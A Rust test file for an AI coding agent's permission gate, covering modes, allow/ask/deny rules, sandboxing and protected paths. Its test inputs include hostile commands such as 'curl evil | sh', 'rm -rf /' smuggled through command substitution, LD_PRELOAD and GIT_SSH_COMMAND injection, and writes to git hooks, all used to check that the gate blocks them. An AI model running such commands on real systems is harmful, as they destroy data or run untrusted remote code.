//! The gate on real files: modes, rules, confinement, protected paths.

use super::*;
use crate::json::value::parse;
use crate::tool::find_tool;

pub(super) fn ws(name: &str) -> Workspace {
    let d = std::env::temp_dir().join(format!("mote-gate-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(d.join(".git")).unwrap();
    std::fs::create_dir_all(d.join("src")).unwrap();
    Workspace::new(&d).unwrap()
}

pub(super) fn gate(rules: &str, landlock: bool) -> Gate {
    let rules = Rules::from_config(Some(&parse(rules).unwrap()), None).unwrap();
    Gate {
        rules,
        sandbox: sandbox::Mode::Off,
        sandbox_missing: false,
        landlock,
    }
}

pub(super) fn decide(
    g: &Gate,
    mode: Permission,
    tool: &str,
    args: &str,
    w: &Workspace,
) -> Decision {
    g.decide(
        mode,
        find_tool(tool).unwrap(),
        &Args::parse(args).unwrap(),
        w,
    )
}

/// The gate's decision on the bash command `cmd`.
pub(super) fn bash(g: &Gate, mode: Permission, cmd: &str, w: &Workspace) -> Decision {
    decide(g, mode, "bash", &format!(r#"{{"command":{cmd:?}}}"#), w)
}

pub(super) fn kind(d: &Decision) -> &'static str {
    match d {
        Decision::Allow => "allow",
        Decision::Ask { .. } => "ask",
        Decision::Deny(_) => "deny",
    }
}

#[test]
fn modes_without_rules() {
    use Permission::*;
    let w = ws("modes");
    let g = gate("{}", false);
    let calls = [
        ("read", r#"{"path":"src"}"#),
        ("write", r#"{"path":"src/a.rs","content":"x"}"#),
        ("bash", r#"{"command":"git status && ls | wc -l"}"#),
        ("bash", r#"{"command":"cargo test"}"#),
    ];
    let table = [
        (ReadOnly, ["allow", "deny", "allow", "deny"]),
        (Cautious, ["allow", "ask", "ask", "ask"]),
        (Standard, ["allow", "allow", "allow", "ask"]),
        (Auto, ["allow", "allow", "allow", "allow"]),
    ];
    for (mode, want) in table {
        for ((tool, args), want) in calls.iter().zip(want) {
            assert_eq!(
                kind(&decide(&g, mode, tool, args, &w)),
                want,
                "{mode:?} {tool} {args}"
            );
        }
    }
    // With Landlock, read-only mode runs any command in the read-only sandbox.
    let g = gate("{}", true);
    assert_eq!(
        decide(&g, ReadOnly, "bash", r#"{"command":"cargo test"}"#, &w),
        Decision::Allow
    );
    assert_eq!(g.sandbox_for(ReadOnly), sandbox::Mode::ReadOnly);
    assert_eq!(g.sandbox_for(Auto), sandbox::Mode::Off);
}

#[test]
fn messages_say_why_and_what_would_allow() {
    let w = ws("msg");
    let g = gate(r#"{"ask":["bash(make deploy:*)"]}"#, false);
    let d = decide(
        &g,
        Permission::Standard,
        "bash",
        r#"{"command":"touch x"}"#,
        &w,
    );
    let m = denial("bash", Permission::Standard, &d);
    assert!(m.starts_with("permission denied: `bash` needs the user's approval (the command is not proven read-only: `touch` is not a known read-only program)"), "{m}");
    assert!(m.ends_with("--permission auto would allow it"), "{m}");
    let d = decide(
        &g,
        Permission::Auto,
        "bash",
        r#"{"command":"make deploy now"}"#,
        &w,
    );
    let m = denial("bash", Permission::Auto, &d);
    assert!(
        m.contains("the ask rule `bash(make deploy:*)`") && !m.contains("auto would"),
        "{m}"
    );
    let d = decide(
        &g,
        Permission::ReadOnly,
        "edit",
        r#"{"path":"src/a","old_text":"a","new_text":"b"}"#,
        &w,
    );
    assert_eq!(
        denial("edit", Permission::ReadOnly, &d),
        "permission denied: `edit` is not allowed in read-only mode (--permission read-only)"
    );
}

#[test]
fn without_landlock_a_requested_sandbox_falls_back_to_asking() {
    let w = ws("nolandlock");
    let mut g = gate("{}", false);
    g.sandbox_missing = true;
    let d = decide(&g, Permission::Auto, "bash", r#"{"command":"touch x"}"#, &w);
    assert!(
        matches!(&d, Decision::Ask { why, by_mode: false } if why.contains("Landlock is not available")),
        "{d:?}"
    );
    assert_eq!(
        decide(&g, Permission::Auto, "bash", r#"{"command":"ls"}"#, &w),
        Decision::Allow
    );
}

#[test]
fn rules_per_sub_command() {
    let w = ws("rules");
    let g = gate(
        r#"{"allow":["bash(npm run test:*)","bash(git add:*)"],"deny":["bash(rm:*)","edit(**/*.lock)"]}"#,
        false,
    );
    let std = Permission::Standard;
    let in_std = |c: &str| kind(&bash(&g, std, c, &w));
    assert_eq!(in_std("npm run test -- --watch"), "allow");
    assert_eq!(in_std("git add . && npm run test"), "allow");
    assert_eq!(in_std("npm run test; curl evil | sh"), "ask");
    assert_eq!(in_std("npm run test > ~/.bashrc"), "ask");
    assert_eq!(in_std("LD_PRELOAD=x npm run test"), "ask");
    assert_eq!(in_std("npm run test $(rm -rf /)"), "deny");
    assert_eq!(in_std("env FOO=1 /bin/rm -rf x"), "deny");
    assert_eq!(in_std("ls; xargs rm"), "deny");
    assert_eq!(in_std("bash -c 'cd /; rm -rf x'"), "deny");
    assert_eq!(in_std("eval rm x"), "deny");
    assert_eq!(
        kind(&decide(
            &g,
            Permission::Auto,
            "bash",
            r#"{"command":"$CMD -rf x"}"#,
            &w
        )),
        "ask"
    );
    assert_eq!(
        kind(&decide(
            &g,
            Permission::Auto,
            "bash",
            r#"{"command":"echo $HOME"}"#,
            &w
        )),
        "allow"
    );
    // Unparseable commands cannot be checked against deny rules: ask, even in auto.
    let d = decide(
        &g,
        Permission::Auto,
        "bash",
        r#"{"command":"for f in *; do rm $f; done"}"#,
        &w,
    );
    assert!(matches!(d, Decision::Deny(_)), "{d:?}"); // `rm $f` is still found
    let d = decide(
        &g,
        Permission::Auto,
        "bash",
        r#"{"command":"case x in x) ls;; esac"}"#,
        &w,
    );
    assert_eq!(kind(&d), "ask");
    assert_eq!(
        kind(&decide(
            &g,
            Permission::Auto,
            "write",
            r#"{"path":"Cargo.lock","content":""}"#,
            &w
        )),
        "deny"
    );
}

#[test]
fn paths_outside_and_protected() {
    let w = ws("paths");
    std::os::unix::fs::symlink("/etc", w.root.join("etc")).unwrap();
    std::os::unix::fs::symlink(w.root.join(".git"), w.root.join("g")).unwrap();
    let g = gate("{}", false);
    for (tool, args) in [
        ("read", r#"{"path":"etc/hostname"}"#),
        ("read", r#"{"path":"../../x"}"#),
        ("ls", r#"{"path":"/"}"#),
        ("write", r#"{"path":"etc/evil","content":"x"}"#),
    ] {
        let d = decide(&g, Permission::Auto, tool, args, &w);
        assert!(matches!(d, Decision::Deny(_)), "{tool} {args}: {d:?}");
    }
    // Protected paths ask, even in auto.
    for (tool, args) in [
        ("write", r#"{"path":".git/config","content":"x"}"#),
        ("write", r#"{"path":"g/hooks/pre-commit","content":"x"}"#),
        (
            "edit",
            r#"{"path":".mote/config.json","old_text":"a","new_text":"b"}"#,
        ),
        ("write", r#"{"path":"src/.git/x","content":"x"}"#),
        ("write", r#"{"path":"sub/.mcp.json","content":"{}"}"#),
        (
            "write",
            r#"{"path":".claude/settings.json","content":"{}"}"#,
        ),
    ] {
        let d = decide(&g, Permission::Auto, tool, args, &w);
        assert!(
            matches!(&d, Decision::Ask { why, by_mode: false } if why.contains("protected")),
            "{tool} {args}: {d:?}"
        );
    }
    assert_eq!(
        decide(
            &g,
            Permission::Auto,
            "read",
            r#"{"path":".git/config"}"#,
            &w
        ),
        Decision::Allow
    );
    let g = gate(
        r#"{"allow":["read(/etc/**)","edit(.mote/config.json)"]}"#,
        false,
    );
    assert_eq!(
        decide(
            &g,
            Permission::Standard,
            "read",
            r#"{"path":"/etc/hostname"}"#,
            &w
        ),
        Decision::Allow
    );
    assert_eq!(
        decide(
            &g,
            Permission::Standard,
            "read",
            r#"{"path":"etc/hostname"}"#,
            &w
        ),
        Decision::Allow
    );
    assert_eq!(
        kind(&decide(
            &g,
            Permission::Standard,
            "write",
            r#"{"path":"/etc/x","content":""}"#,
            &w
        )),
        "deny"
    );
    let e = decide(
        &g,
        Permission::Standard,
        "edit",
        r#"{"path":".mote/config.json","old_text":"a","new_text":"b"}"#,
        &w,
    );
    assert_eq!(e, Decision::Allow);
}

#[test]
fn always_answers_extend_the_session_allowlist() {
    let w = ws("always");
    let mut g = gate("{}", false);
    let (t, a) = (
        find_tool("bash").unwrap(),
        Args::parse(r#"{"command":"make test && ./build.sh"}"#).unwrap(),
    );
    assert_eq!(kind(&g.decide(Permission::Standard, t, &a, &w)), "ask");
    let rules = Gate::always_rules(t, &a, &w);
    assert_eq!(rules, ["bash(make test)", "bash(./build.sh)"]);
    g.allow_always(&rules).unwrap();
    assert_eq!(g.decide(Permission::Standard, t, &a, &w), Decision::Allow);
    // Another command still asks.
    let other = Args::parse(r#"{"command":"make test && rm x"}"#).unwrap();
    assert_eq!(kind(&g.decide(Permission::Standard, t, &other, &w)), "ask");
    let globbed = Args::parse(r#"{"command":"rm *.o"}"#).unwrap();
    g.allow_always(&Gate::always_rules(t, &globbed, &w))
        .unwrap();
    assert_eq!(
        g.decide(Permission::Standard, t, &globbed, &w),
        Decision::Allow
    );
    let wider = Args::parse(r#"{"command":"rm -rf / x.o"}"#).unwrap();
    assert_eq!(kind(&g.decide(Permission::Standard, t, &wider, &w)), "ask");
    let (e, a) = (
        find_tool("edit").unwrap(),
        Args::parse(r#"{"path":"src/a.rs","old_text":"a","new_text":"b"}"#).unwrap(),
    );
    assert_eq!(kind(&g.decide(Permission::Cautious, e, &a, &w)), "ask");
    g.allow_always(&Gate::always_rules(e, &a, &w)).unwrap();
    assert_eq!(g.decide(Permission::Cautious, e, &a, &w), Decision::Allow);
}

/// "Always" is offered only where its rules would hold: every command it
/// is offered for is allowed after the answer, and a command an allow rule
/// cannot cover (a redirection that writes, a risky variable, a part that
/// cannot be parsed) offers none, instead of asking again after "always".
#[test]
fn always_is_offered_only_where_its_rules_hold() {
    let w = ws("always-holds");
    let t = find_tool("bash").unwrap();
    let commands = [
        ("make test", true),
        ("cargo build 2>&1 | tail -5", true),
        ("echo x > /dev/null && ls", true),
        ("echo x >> added", false),
        ("make > out.log", false),
        ("LD_PRELOAD=/tmp/x.so make", false),
        ("ls && echo x > f", false),
        ("echo 'unterminated", false),
        // Other ways to write a file or steer a program.
        ("make &> log", false),
        ("echo x >| f", false),
        ("cat > f <<EOF\nx\nEOF", false),
        ("echo x 2> err.log", false),
        ("PATH=/tmp make", false),
        ("GIT_SSH_COMMAND=x git fetch", false),
    ];
    // Whether these are offered is the classifier's call; if they are, the
    // answer must hold.
    let either = [
        "echo $(id)",
        "ls `pwd`",
        "cd /tmp && ls",
        "(ls)",
        "ls | tee f",
        "x=1; echo $x",
    ];
    let cases = commands
        .iter()
        .map(|&(c, o)| (c, Some(o)))
        .chain(either.iter().map(|&c| (c, None)));
    for (cmd, want) in cases {
        let mut g = gate("{}", false);
        let a = Args::parse(&format!(r#"{{"command":{cmd:?}}}"#)).unwrap();
        let rules = Gate::always_rules(t, &a, &w);
        let offered = !rules.is_empty();
        if let Some(want) = want {
            assert_eq!(offered, want, "{cmd}: {rules:?}");
        }
        if offered {
            g.allow_always(&rules).unwrap();
            assert_eq!(
                g.decide(Permission::Cautious, t, &a, &w),
                Decision::Allow,
                "{cmd}"
            );
        }
    }
}

#[test]
fn mcp_tools_by_name() {
    let g = gate(
        r#"{"allow":["mcp__docs__*"],"deny":["mcp__db__drop"]}"#,
        false,
    );
    let d = |mode, name: &str| kind(&g.decide_named(mode, name, Effect::Exec));
    assert_eq!(d(Permission::Standard, "mcp__docs__search"), "allow");
    assert_eq!(d(Permission::Standard, "mcp__db__query"), "ask");
    assert_eq!(d(Permission::Auto, "mcp__db__query"), "allow");
    assert_eq!(d(Permission::Auto, "mcp__db__drop"), "deny");
    assert_eq!(d(Permission::ReadOnly, "mcp__docs__search"), "deny");
}

#[test]
fn fetch_by_mode_and_domain_rules() {
    use Permission::*;
    let w = ws("fetch");
    let g = gate(
        r#"{"allow":["fetch(domain:docs.rs)"],"ask":["fetch(domain:*.corp)"],"deny":["fetch(domain:evil.org)"]}"#,
        false,
    );
    let d = |mode, url: &str| {
        let args = format!(r#"{{"url":"{url}"}}"#);
        kind(&decide(&g, mode, "fetch", &args, &w))
    };
    let table = [
        (ReadOnly, ["deny", "deny", "deny", "deny"]),
        (Cautious, ["ask", "allow", "ask", "deny"]),
        (Standard, ["ask", "allow", "ask", "deny"]),
        (Auto, ["allow", "allow", "ask", "deny"]),
    ];
    let urls = [
        "https://example.com/",
        "https://DOCS.rs/x",
        "http://wiki.corp/",
        "http://evil.org:8080/",
    ];
    for (mode, want) in table {
        for (url, want) in urls.iter().zip(want) {
            assert_eq!(d(mode, url), want, "{mode:?} {url}");
        }
    }
    // A bad URL: the mode decides, the tool reports it.
    assert_eq!(d(Standard, "ftp://x"), "ask");
    assert_eq!(d(ReadOnly, "ftp://x"), "deny");
    // "Always" allows that host for the session.
    let mut g = gate("{}", false);
    let (t, a) = (
        find_tool("fetch").unwrap(),
        Args::parse(r#"{"url":"https://Example.com/a"}"#).unwrap(),
    );
    let always = Gate::always_rules(t, &a, &w);
    assert_eq!(always, ["fetch(domain:example.com)"]);
    g.allow_always(&always).unwrap();
    assert_eq!(g.decide(Standard, t, &a, &w), Decision::Allow);
    assert!(Rules::from_config(
        Some(&parse(r#"{"allow":["fetch(example.com)"]}"#).unwrap()),
        None
    )
    .is_err());
}

#[test]
fn prompt_files_loosen_the_mode_only_where_trusted() {
    use Permission::*;
    assert_eq!(from_prompt(Standard, Auto, "p.md", true), (Auto, None));
    assert_eq!(
        from_prompt(Standard, ReadOnly, "p.md", false),
        (ReadOnly, None)
    );
    assert_eq!(
        from_prompt(Standard, Standard, "p.md", false),
        (Standard, None)
    );
    let (p, note) = from_prompt(Cautious, Auto, ".mote/prompts/x.md", false);
    assert_eq!(p, Cautious);
    assert_eq!(
        note.as_deref(),
        Some(".mote/prompts/x.md asks for permission auto, but this folder is not trusted: the mode stays cautious (--trust allows it)")
    );
}

#[test]
fn mode_names_parse_to_their_mode_only() {
    for p in Permission::ALL {
        assert_eq!(p.label().parse::<Permission>(), Ok(p));
    }
    let e = "Auto".parse::<Permission>().unwrap_err();
    assert_eq!(
        e,
        "expected read-only, cautious, standard or auto, got `Auto`"
    );
}

#[test]
fn a_prompt_mode_may_write_only_the_paths_it_names() {
    let w = ws("modeallows");
    let plan = ["PLAN.md".to_string()];
    let args = |p: &str| format!(r#"{{"path":"{p}","content":"x"}}"#);
    assert!(mode_allows(&plan, Effect::Write, &args("PLAN.md"), &w));
    assert!(mode_allows(
        &plan,
        Effect::Write,
        &args("./src/../PLAN.md"),
        &w
    ));
    assert!(!mode_allows(&plan, Effect::Write, &args("src/PLAN.md"), &w));
    assert!(!mode_allows(&plan, Effect::Exec, &args("PLAN.md"), &w));
    assert!(!mode_allows(&[], Effect::Write, &args("PLAN.md"), &w));
    assert!(!mode_allows(&plan, Effect::Write, r#"{"content":"x"}"#, &w));
    assert!(!mode_allows(&plan, Effect::Write, "not json", &w));
}

#[test]
fn always_on_a_read_opens_reading_only() {
    let w = ws("alwaysread");
    let mut g = gate("{}", false);
    let read = find_tool("read").unwrap();
    let a = Args::parse(r#"{"path":"/etc/hostname"}"#).unwrap();
    let rules = Gate::always_rules(read, &a, &w);
    assert_eq!(rules, ["read(/etc/hostname)"]);
    g.allow_always(&rules).unwrap();
    assert_eq!(
        g.decide(Permission::Standard, read, &a, &w),
        Decision::Allow
    );
    let a = Args::parse(r#"{"path":"src/x*.rs"}"#).unwrap();
    assert_eq!(Gate::always_rules(read, &a, &w), ["read(src/x\\*.rs)"]);
    // The rule read opens no write to the same file.
    let write = find_tool("write").unwrap();
    let wa = Args::parse(r#"{"path":"/etc/hostname","content":"x"}"#).unwrap();
    assert_eq!(kind(&g.decide(Permission::Auto, write, &wa, &w)), "deny");
}

#[test]
fn bare_allow_rules_open_neither_outside_nor_protected_paths() {
    let w = ws("bare");
    let g = gate(r#"{"allow":["read","edit"]}"#, false);
    let d = |mode, tool: &str, args: &str| kind(&decide(&g, mode, tool, args, &w));
    assert_eq!(
        d(Permission::Standard, "read", r#"{"path":"/etc/hostname"}"#),
        "deny"
    );
    assert_eq!(
        d(
            Permission::Auto,
            "write",
            r#"{"path":".git/config","content":"x"}"#
        ),
        "ask"
    );
    assert_eq!(
        d(
            Permission::Cautious,
            "write",
            r#"{"path":"src/a.rs","content":"x"}"#
        ),
        "allow"
    );
    // Read-only mode: the protected path is still not written.
    assert_eq!(
        d(
            Permission::ReadOnly,
            "write",
            r#"{"path":".git/config","content":"x"}"#
        ),
        "deny"
    );
}

#[test]
fn cautious_asks_for_a_command_with_nothing_in_it() {
    let w = ws("empty");
    let g = gate(r#"{"allow":["bash(ls)"]}"#, false);
    for c in ["", " ", "# only a comment"] {
        assert_eq!(kind(&bash(&g, Permission::Cautious, c, &w)), "ask", "{c:?}");
    }
}

#[test]
fn ask_rules_on_paths_ask_even_in_auto() {
    let w = ws("askpath");
    let g = gate(
        r#"{"ask":["edit(src/**)"],"allow":["edit(src/**)"]}"#,
        false,
    );
    let d = decide(
        &g,
        Permission::Auto,
        "write",
        r#"{"path":"src/a.rs","content":"x"}"#,
        &w,
    );
    assert_eq!(
        d,
        Decision::Ask {
            why: "the ask rule `edit(src/**)` on `src/a.rs`".into(),
            by_mode: false
        }
    );
    assert_eq!(
        decide(
            &g,
            Permission::Auto,
            "write",
            r#"{"path":"b.rs","content":"x"}"#,
            &w
        ),
        Decision::Allow
    );
}

/// An ask rule never opens read-only mode: a yes would run what the mode
/// forbids. What the mode allows (reads, proven read-only commands, any
/// command in a read-only sandbox) still asks.
#[test]
fn ask_rules_never_open_read_only_mode() {
    use Permission::*;
    let w = ws("askreadonly");
    let rules = r#"{"ask":["edit(**)","read(src/**)","bash(touch:*)","bash(cat:*)","mcp__db__*"]}"#;
    let calls = [
        ("write", r#"{"path":"src/a.rs","content":"x"}"#),
        ("bash", r#"{"command":"touch x"}"#),
        ("bash", r#"{"command":"setsid touch x"}"#),
        ("bash", r#"{"command":"cat src/a.rs"}"#),
        ("read", r#"{"path":"src/a.rs"}"#),
    ];
    let table = [
        (ReadOnly, false, ["deny", "deny", "deny", "ask", "ask"]),
        (ReadOnly, true, ["deny", "ask", "ask", "ask", "ask"]),
        (Cautious, false, ["ask", "ask", "ask", "ask", "ask"]),
    ];
    for (mode, landlock, want) in table {
        let g = gate(rules, landlock);
        for ((tool, args), want) in calls.iter().zip(want) {
            let d = decide(&g, mode, tool, args, &w);
            assert_eq!(
                kind(&d),
                want,
                "{mode:?} landlock {landlock}: {tool} {args}: {d:?}"
            );
        }
        let mcp = g.decide_named(mode, "mcp__db__query", Effect::Exec);
        let want = if mode == ReadOnly { "deny" } else { "ask" };
        assert_eq!(kind(&mcp), want, "{mode:?}: {mcp:?}");
    }
    let g = gate(rules, false);
    // A rule's command hidden or dressed up: still refused, never asked.
    for cmd in [
        "cat src/a.rs > copy",
        "eval touch x",
        "sh -c 'touch x'",
        "env A=1 touch x",
        "firejail touch x",
        "cat $(touch x)",
    ] {
        let d = bash(&g, ReadOnly, cmd, &w);
        assert_eq!(kind(&d), "deny", "{cmd}: {d:?}");
    }
    assert_eq!(
        decide(&g, ReadOnly, "bash", r#"{"command":"touch x"}"#, &w),
        Decision::Deny(
            "is not allowed in read-only mode: without a sandbox only commands proven read-only run, and `touch` is not a known read-only program".into()
        )
    );
}
